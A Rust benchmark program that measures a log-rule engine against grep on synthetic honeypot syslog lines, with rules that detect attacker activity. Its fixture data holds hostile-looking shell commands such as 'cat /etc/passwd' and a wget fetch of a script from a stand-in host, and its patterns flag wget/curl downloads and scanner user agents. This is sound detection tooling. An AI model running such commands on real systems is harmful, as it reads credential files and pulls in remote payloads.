//! Prints how many lines a second one core scans against many rules, beside `grep -cE -f` with the same patterns on the
//! same file, and whether memory stays flat.
//!
//! `cargo run --release -p rules --example scan [LINES] [RULES]`

#![expect(clippy::print_stdout, reason = "a program for people to run")]
#![expect(
    clippy::disallowed_methods,
    reason = "measures time, and reads what it made"
)]

use std::{fmt::Write as _, path::Path, process::Command, sync::Arc, time::Instant};

use rules::{Engine, Limits, Line, NoParts, RuleSet, Stream, parse_rules};

/// Turns of both, of which the best counts: other programs' load shows less.
const TURNS: usize = 5;

fn main() {
    let mut numbers = std::env::args()
        .skip(1)
        .map(|text| text.parse::<usize>().expect("a number"));
    let lines = numbers.next().unwrap_or(1_000_000);
    let rules = numbers.next().unwrap_or(500);
    let folder = std::env::temp_dir().join(format!("rules-scan-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder");
    let (log, patterns) = (folder.join("log"), folder.join("patterns"));
    let text = log_lines(lines);
    let all: Vec<String> = (0..rules).map(pattern).collect();
    std::fs::write(&log, &text).expect("the log");
    std::fs::write(
        &patterns,
        all.iter()
            .map(|text| posix(text) + "\n")
            .collect::<String>(),
    )
    .expect("the patterns");
    println!(
        "{lines} lines of {} octets on average, {rules} rules",
        text.len() / lines
    );

    let start = processor_ns();
    let set = Arc::new(RuleSet::build([&*parse_rules(&file(&all)).expect("right")]).set);
    println!(
        "rules read, checked and compiled in {:.0} ms",
        (processor_ns() - start) as f64 / 1e6
    );
    let (mut ours, mut theirs) = (f64::MAX, f64::MAX);
    for _ in 0..TURNS {
        let (seconds, hit) = scan(&set, &text);
        ours = ours.min(seconds);
        let (seconds, found) = grep(&log, &patterns);
        theirs = theirs.min(seconds);
        assert_eq!(hit, found, "lines that are hits for us, and for grep");
    }
    let rate = |seconds: f64| lines as f64 / seconds / 1e6;
    println!(
        "rules      {:.2} million lines/s, {:.0} ns a line",
        rate(ours),
        ours * 1e9 / lines as f64
    );
    println!(
        "grep -cE   {:.2} million lines/s, {:.0} ns a line",
        rate(theirs),
        theirs * 1e9 / lines as f64
    );
    println!("ratio      {:.1}", theirs / ours);
    std::fs::remove_dir_all(&folder).expect("our folder");
}

/// Seconds of processor time, and the lines that at least one rule matches.
fn scan(set: &Arc<RuleSet>, text: &[u8]) -> (f64, usize) {
    let mut engine = Engine::new(Arc::clone(set), Limits::default());
    let (now, mut out, mut hit) = (Instant::now(), Vec::new(), 0);
    let (mut emitted, mut tenth) = (0, 0);
    let start = processor_ns();
    let mut before = 0;
    let mut from = 0;
    for (at, end) in memchr::memchr_iter(b'\n', text).enumerate() {
        let text = &text[std::mem::replace(&mut from, end + 1)..end];
        let line = Line {
            workload: "w1/gate",
            container: "w1/0123456789ab",
            stream: Stream::Stdout,
            text,
            parts: &NoParts,
        };
        engine.scan(now, &line, &mut out);
        hit += usize::from(engine.stats().matched > before);
        before = engine.stats().matched;
        emitted += out.len();
        out.clear();
        if at == 100_000 {
            tenth = resident_kib();
        }
    }
    let seconds = (processor_ns() - start) as f64 / 1e9;
    let stats = engine.stats();
    println!(
        "  {hit} lines with hits, {} hits, {emitted} events; {} octets searched a line; {tenth} KiB resident after \
         100,000 lines, {} KiB at the end",
        stats.matched,
        stats.searched_bytes / stats.lines.max(1),
        resident_kib()
    );
    (seconds, hit)
}

/// The same of grep, in the C locale, in which it is fastest.
fn grep(log: &Path, patterns: &Path) -> (f64, usize) {
    let script = "time -p grep -cE -f \"$0\" \"$1\"";
    let output = Command::new("bash")
        .args(["-c", script])
        .args([patterns, log])
        .env("LC_ALL", "C")
        .output()
        .expect("bash and grep");
    let text = String::from_utf8(output.stderr).expect("text");
    let seconds = ["user", "sys"].map(|what| {
        let line = text.lines().find_map(|line| line.strip_prefix(what));
        line.and_then(|line| line.trim().parse::<f64>().ok())
            .expect("seconds")
    });
    let count = String::from_utf8(output.stdout).expect("text");
    (seconds.iter().sum(), count.trim().parse().expect("a count"))
}

fn file(patterns: &[String]) -> String {
    let mut file = String::new();
    for (at, pattern) in patterns.iter().enumerate() {
        let _ = write!(
            file,
            "[[rule]]\nname = 'rule-{at}'\npattern = '''{pattern}'''\n"
        );
    }
    file
}

/// One of the patterns: five forms, each with a hundred words.
fn pattern(at: usize) -> String {
    let (form, number) = (at % 5, at / 5);
    let word = word(number);
    match form {
        0 => {
            let users = ["root", "admin", "oracle", "pi"];
            let user = users.get(number).map_or(word, |user| (*user).to_owned());
            format!(
                r"Failed password for (invalid user )?(?P<user>{user}) from (?P<ip>[0-9.]+) port"
            )
        }
        1 => {
            let tools = ["wget", "curl"];
            let tool = tools.get(number).map_or(word, |tool| (*tool).to_owned());
            format!(r#"command="[^"]*{tool} [^"]*http://(?P<host>[^/" ]+)/(m|x)"#)
        }
        2 => format!(r#"path="/{word}(/[a-z0-9._-]+)*\.(php|cgi|aspx)"#),
        3 => {
            let agents = ["Nmap", "zgrab", "masscan"];
            let agent = agents.get(number).map_or(word, |agent| (*agent).to_owned());
            format!(r#"user_agent="(?P<agent>{agent}[^"]*)""#)
        }
        _ => format!(
            r#"service="(?P<service>{word}[a-z]*)" .*src_ip="(?P<ip>10\.{number}\.[0-9]+\.[0-9]+)""#
        ),
    }
}

/// A word that no line holds.
fn word(number: usize) -> String {
    let syllables = [
        "bra", "zo", "kep", "lum", "fy", "dro", "ghi", "nax", "tor", "wib",
    ];
    format!(
        "{}{}{}",
        syllables[number % 10],
        syllables[number / 10 % 10],
        syllables[(number * 7 + 3) % 10]
    )
}

/// The pattern without names, for grep.
fn posix(pattern: &str) -> String {
    let mut parts = pattern.split("?P<");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |all, part| {
        all + part.split_once('>').map_or(part, |(_, rest)| rest)
    })
}

/// Lines of decoy services. The same each time.
fn log_lines(count: usize) -> Vec<u8> {
    let mut state = 4711_u64;
    let mut draw = |below: usize| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below
    };
    let services = [
        "ssh", "http", "smb", "ftp", "mysql", "rdp", "telnet", "redis",
    ];
    let users = [
        "root",
        "admin",
        "oracle",
        "postgres",
        "ubuntu",
        "svc-backup",
        "pi",
        "test",
    ];
    let commands = [
        "uname -a",
        "cat /etc/passwd",
        "wget http://198.51.100.7/x.sh",
        "id; whoami; w",
        "ls -la /var/www",
        "nproc",
        "free -m",
        "ps aux",
    ];
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
        "curl/8.5.0",
        "python-requests/2.31",
        "Nmap Scripting Engine",
    ];
    let mut text = String::new();
    for at in 0..count {
        let service = services[draw(services.len())];
        let head = format!(
            "<134>1 2026-09-21T{:02}:{:02}:{:02}.{:06}+00:00 decky-{:02}.lan {service}",
            at / 3600 % 24,
            at / 60 % 60,
            at % 60,
            draw(1_000_000),
            draw(40)
        );
        let ip = [1 + draw(222), draw(256), draw(256), draw(256)]
            .map(|part| part.to_string())
            .join(".");
        let data = format!(
            r#"[relay@55555 seq="{at:010}" service="{service}" src_ip="{ip}" src_port="{}""#,
            1024 + draw(64_000)
        );
        let _ = match draw(12) {
            0 => writeln!(
                text,
                "{head} {} - -  Failed password for {} from {ip} port {} ssh2",
                draw(32_768),
                users[draw(users.len())],
                draw(65_536)
            ),
            1 | 2 => writeln!(
                text,
                r#"{head} - login_attempt {data} username="{}" password="hunter{}"] authentication failed"#,
                users[draw(users.len())],
                draw(100)
            ),
            3 => writeln!(
                text,
                r#"{head} - command {data} command="{}" cwd="/root"] command executed in decoy shell"#,
                commands[draw(commands.len())]
            ),
            4 | 5 => writeln!(
                text,
                r#"{head} - http_request {data} method="GET" path="/wp-login.php?x={}" user_agent="{}"] request served"#,
                draw(1_000_000),
                agents[draw(agents.len())]
            ),
            6 => writeln!(
                text,
                r#"{head} - file_read {data} path="/var/lib/app/data/{:x}/file.bin" bytes="{}"] payload stored for analysis"#,
                draw(1 << 30),
                draw(10_000_000)
            ),
            _ => writeln!(
                text,
                r#"{head} - connect {data}] session closed by remote host after timeout"#
            ),
        };
    }
    text.into_bytes()
}

/// What the kernel says this thread has used.
fn processor_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|text| text.split(' ').next()?.parse().ok())
        .expect("Linux with schedstat")
}

fn resident_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|text| {
            let line = text
                .lines()
                .find_map(|line| line.strip_prefix("VmRSS:"))?
                .to_owned();
            line.trim().trim_end_matches(" kB").parse().ok()
        })
        .expect("Linux")
}
